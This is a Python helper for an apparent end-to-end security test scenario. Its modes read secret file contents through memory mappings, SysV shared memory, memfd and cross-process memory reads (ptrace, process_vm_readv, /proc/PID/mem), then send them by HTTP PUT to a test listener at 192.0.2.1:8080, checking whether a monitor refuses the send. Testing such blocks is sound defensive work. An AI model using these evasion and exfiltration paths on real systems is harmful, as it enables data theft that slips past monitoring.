#!/usr/bin/python3
"""Readers of file mappings for e2e scenario 29 (issue 14, round 16): each maps a file, reads
what another process puts into it later (no read() of its own: the content arrives in its
memory), then sends that to the listener at 192.0.2.1:8080. Prints "sent TAG" and exits 0
when the send went out; exits 1 with "refused: ..." when it was refused (EPERM), 2 on a
setup error, 3 when the content never came.

  reader PATH READY MARKER           map PATH shared, read-only; READY made once mapped
  reader-private PATH READY MARKER   the same with a private mapping
  reader-unmap PATH READY MARKER DIR N
                                     the same, then copy, unmap, close, unlink PATH and map
                                     N fresh files in DIR (kept mapped) before sending
  reader-many DIR N READY MARKER     map N files DIR/m-0 .. m-(N-1) shared; the marker is
                                     awaited in the last
  reader-fork PATH READY MARKER      map PATH shared, fork; the child reads and sends
  writer-store PATH READY GO SECRET [FIRST]
                                     map PATH shared and writable (clean, or after reading
                                     FIRST), READY; once GO exists read SECRET and store it
                                     into the mapping
  mprotect FILE                      map FILE private with no access, mprotect(PROT_READ),
                                     send what the mapping holds
  write-only FILE                    map FILE private PROT_WRITE only, send what it holds
  sysv-reader KEY READY MARKER       attach SysV segment KEY (made if missing) read-only,
                                     READY once attached, wait for MARKER in it, send it
  sysv-writer KEY READY GO SECRET    attach segment KEY writable (clean), READY; once GO
                                     exists read SECRET and store it into the segment (GO
                                     "-": read and store at once, READY "-": none)
  sysv-put KEY TEXT                  attach segment KEY writable and store TEXT (untainted)
  sysv-look KEY MARKER TEXT          attach segment KEY read-only, read it until MARKER is
                                     there, then send TEXT (not what it read)
  sysv-rm KEY                        remove segment KEY
  memfd-hold SECRET READY            make a memfd, write "PID FD" to READY (while clean: the
                                     scenario's shell reads it), then read SECRET into the
                                     memfd, make READY.filled (empty: nothing written), sleep
  fill DIR N SECRET                  read SECRET (tainted), then map N fresh files DIR/fill-0
                                     .. fill-(N-1) shared and writable (each takes the
                                     mark: one mapped_marks entry each), print "filled N"
  map-look PATH TEXT                 map PATH shared read-only, read it, then send TEXT
  target PATH DIR                    a process whose memory another reads: DIR/pid, waits for
                                     DIR/opened, maps PATH shared, DIR/addr, then sleeps (it
                                     makes no decision of its own)
  reacher METHOD PATH DIR MARKER     starts a target (its child, as Yama's ptrace scope 1
                                     allows) and reaches into it before it maps, by METHOD: peek (PTRACE_SEIZE, then PEEKDATA), vm-readv
                                     (process_vm_readv at each look), proc-mem (/proc/PID/mem
                                     opened first); reads the mapping until MARKER is there,
                                     then sends it
"""
import ctypes
import mmap
import os
import socket
import subprocess
import sys
import time

SIZE = 4096
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def send(data, tag):
    try:
        s = socket.create_connection(("192.0.2.1", 8080), 10)
        s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
        s.shutdown(socket.SHUT_WR)
    except PermissionError as e:
        print("refused:", e, flush=True)
        sys.exit(1)
    try:
        s.recv(256)
    except OSError:
        pass
    s.close()
    print("sent", tag, flush=True)
    sys.exit(0)


def shared_file(path, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED):
    how = os.O_RDWR if prot & mmap.PROT_WRITE else os.O_RDONLY
    if not os.path.exists(path):
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
        os.ftruncate(fd, SIZE)
        os.close(fd)
    fd = os.open(path, how)
    return fd, mmap.mmap(fd, SIZE, flags, prot)


def wait_for(m, marker, secs=40):
    end = time.time() + secs
    while time.time() < end:
        if marker in m[:SIZE]:
            return bytes(m[:SIZE]).rstrip(b"\0")
        time.sleep(0.05)
    print("the content never came", flush=True)
    sys.exit(3)


def touch(path):
    open(path, "w").close()


def raw_map(path, prot):
    fd = os.open(path, os.O_RDONLY)
    addr = libc.mmap(None, SIZE, prot, mmap.MAP_PRIVATE, fd, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        print("mmap:", os.strerror(ctypes.get_errno()), flush=True)
        sys.exit(2)
    return fd, addr


IPC_CREAT, IPC_RMID, SHM_RDONLY = 0o1000, 0, 0o10000
libc.shmget.restype = ctypes.c_int
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmctl.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]


def sysv_attach(key, flags):
    """Attach SysV segment KEY (hex or decimal; made when missing): its address."""
    sid = libc.shmget(int(key, 0), SIZE, IPC_CREAT | 0o666)
    if sid < 0:
        print("shmget:", os.strerror(ctypes.get_errno()), flush=True)
        sys.exit(2)
    addr = libc.shmat(sid, None, flags)
    if addr in (None, ctypes.c_void_p(-1).value):
        e = ctypes.get_errno()
        print("refused:" if e == 1 else "shmat:", os.strerror(e), flush=True)
        sys.exit(1 if e == 1 else 2)
    return addr


def wait_at(addr, marker, secs=40):
    end = time.time() + secs
    while time.time() < end:
        data = ctypes.string_at(addr, SIZE)
        if marker in data:
            return data.rstrip(b"\0")
        time.sleep(0.05)
    print("the content never came", flush=True)
    sys.exit(3)


PTRACE_PEEKDATA, PTRACE_CONT, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 7, 0x4206, 0x4207
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(IoVec), ctypes.c_ulong,
                                  ctypes.POINTER(IoVec), ctypes.c_ulong, ctypes.c_ulong]


def ptrace(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, addr, data)
    if r == -1 and ctypes.get_errno() != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def wait_file(path, secs=40):
    end = time.time() + secs
    while not os.path.exists(path):
        if time.time() > end:
            print("no", path, flush=True)
            sys.exit(2)
        time.sleep(0.05)
    with open(path) as f:
        return f.read().strip()


def put(path, text):
    with open(path + ".tmp", "w") as f:
        f.write(text)
    os.rename(path + ".tmp", path)


def target(path, folder):
    put(os.path.join(folder, "pid"), str(os.getpid()))
    wait_file(os.path.join(folder, "opened"))
    _, m = shared_file(path)
    addr = None
    # the mapping's address, from /proc/self/maps (a read-only mapping has no writable buffer)
    for line in open("/proc/self/maps"):
        if line.rstrip().endswith(path):
            addr = int(line.split("-")[0], 16)
    put(os.path.join(folder, "addr"), str(addr))
    time.sleep(120)


def reacher(method, path, folder, marker):
    child = subprocess.Popen([sys.executable, os.path.abspath(__file__), "target", path, folder])
    pid = int(wait_file(os.path.join(folder, "pid")))
    if pid != child.pid:
        print("the target is not the child", flush=True)
        sys.exit(2)
    word = ctypes.sizeof(ctypes.c_long)
    mem = None
    if method == "peek":
        ptrace(PTRACE_SEIZE, pid)
    elif method == "proc-mem":
        mem = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
    put(os.path.join(folder, "opened"), "1")
    addr = int(wait_file(os.path.join(folder, "addr")))
    end = time.time() + 40
    data = b""
    while time.time() < end:
        if method == "peek":
            ptrace(PTRACE_INTERRUPT, pid)
            os.waitpid(pid, 0)
            data = b"".join(
                (ptrace(PTRACE_PEEKDATA, pid, addr + off) & (2**(8 * word) - 1)).to_bytes(
                    word, sys.byteorder) for off in range(0, 128, word))
            ptrace(PTRACE_CONT, pid)
        elif method == "proc-mem":
            data = os.pread(mem, 128, addr)
        else:
            buf = ctypes.create_string_buffer(128)
            local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 128)
            remote = IoVec(addr, 128)
            n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if n < 0:
                print("process_vm_readv:", os.strerror(ctypes.get_errno()), flush=True)
                sys.exit(2)
            data = buf.raw[:n]
        if marker in data:
            break
        time.sleep(0.1)
    else:
        print("the content never came", flush=True)
        sys.exit(3)
    child.kill()
    child.wait()
    send(data.rstrip(b"\0"), "reacher " + method)


def main(argv):
    mode, args = argv[1], argv[2:]
    if mode == "reader":
        path, ready, marker = args
        _, m = shared_file(path)
        touch(ready)
        send(wait_for(m, marker.encode()), mode)
    elif mode == "reader-private":
        path, ready, marker = args
        _, m = shared_file(path, mmap.PROT_READ, mmap.MAP_PRIVATE)
        touch(ready)
        send(wait_for(m, marker.encode()), mode)
    elif mode == "reader-unmap":
        path, ready, marker, folder, n = args
        fd, m = shared_file(path)
        touch(ready)
        data = wait_for(m, marker.encode())
        m.close()
        os.close(fd)
        os.unlink(path)
        keep = [shared_file(os.path.join(folder, "u-%d" % i)) for i in range(int(n))]
        send(data, "%s (%d kept)" % (mode, len(keep)))
    elif mode == "reader-many":
        folder, n, ready, marker = args
        keep = [shared_file(os.path.join(folder, "m-%d" % i)) for i in range(int(n))]
        touch(ready)
        send(wait_for(keep[-1][1], marker.encode()), mode)
    elif mode == "reader-fork":
        path, ready, marker = args
        _, m = shared_file(path)
        pid = os.fork()
        if pid == 0:
            touch(ready)
            send(wait_for(m, marker.encode()), mode)
        _, status = os.waitpid(pid, 0)
        sys.exit(os.waitstatus_to_exitcode(status))
    elif mode == "writer-store":
        path, ready, go, secret = args[:4]
        if len(args) > 4:
            open(args[4], "rb").read()
        _, m = shared_file(path, mmap.PROT_READ | mmap.PROT_WRITE)
        touch(ready)
        end = time.time() + 40
        while not os.path.exists(go) and time.time() < end:
            time.sleep(0.05)
        d = open(secret, "rb").read()[:SIZE]
        m[:len(d)] = d
        m.flush()
        print("stored", len(d), flush=True)
    elif mode == "mprotect":
        _, addr = raw_map(args[0], 0)
        if libc.mprotect(addr, SIZE, mmap.PROT_READ) != 0:
            print("mprotect:", os.strerror(ctypes.get_errno()), flush=True)
            sys.exit(2)
        send(ctypes.string_at(addr, os.path.getsize(args[0])), mode)
    elif mode == "write-only":
        _, addr = raw_map(args[0], mmap.PROT_WRITE)
        send(ctypes.string_at(addr, os.path.getsize(args[0])), mode)
    elif mode == "sysv-reader":
        key, ready, marker = args
        addr = sysv_attach(key, SHM_RDONLY)
        touch(ready)
        send(wait_at(addr, marker.encode()), mode)
    elif mode == "sysv-writer":
        key, ready, go, secret = args
        addr = sysv_attach(key, 0)
        if ready != "-":
            touch(ready)
        end = time.time() + 40
        while go != "-" and not os.path.exists(go) and time.time() < end:
            time.sleep(0.05)
        d = open(secret, "rb").read()[:SIZE]
        ctypes.memmove(addr, d, len(d))
        print("stored", len(d), flush=True)
    elif mode == "sysv-put":
        key, text = args
        d = text.encode()
        ctypes.memmove(sysv_attach(key, 0), d, len(d))
        print("stored", len(d), flush=True)
    elif mode == "sysv-look":
        key, marker, text = args
        wait_at(sysv_attach(key, SHM_RDONLY), marker.encode())
        send(text.encode(), mode)
    elif mode == "memfd-hold":
        secret, ready = args
        fd = os.memfd_create("picture")
        put(ready, "%d %d" % (os.getpid(), fd))
        os.write(fd, open(secret, "rb").read())
        touch(ready + ".filled")
        time.sleep(60)
    elif mode == "fill":
        folder, n, secret = args
        open(secret, "rb").read()
        keep = [shared_file(os.path.join(folder, "fill-%d" % i),
                            mmap.PROT_READ | mmap.PROT_WRITE) for i in range(int(n))]
        print("filled", len(keep), flush=True)
    elif mode == "map-look":
        path, text = args
        fd = os.open(path, os.O_RDONLY)
        m = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ)
        bytes(m[:64])
        send(text.encode(), mode)
    elif mode == "sysv-rm":
        sid = libc.shmget(int(args[0], 0), 0, 0)
        if sid >= 0:
            libc.shmctl(sid, IPC_RMID, None)
    elif mode == "target":
        target(*args)
    elif mode == "reacher":
        reacher(args[0], args[1], args[2], args[3].encode())
    else:
        print("unknown mode", mode, file=sys.stderr)
        sys.exit(2)


if __name__ == "__main__":
    main(sys.argv)
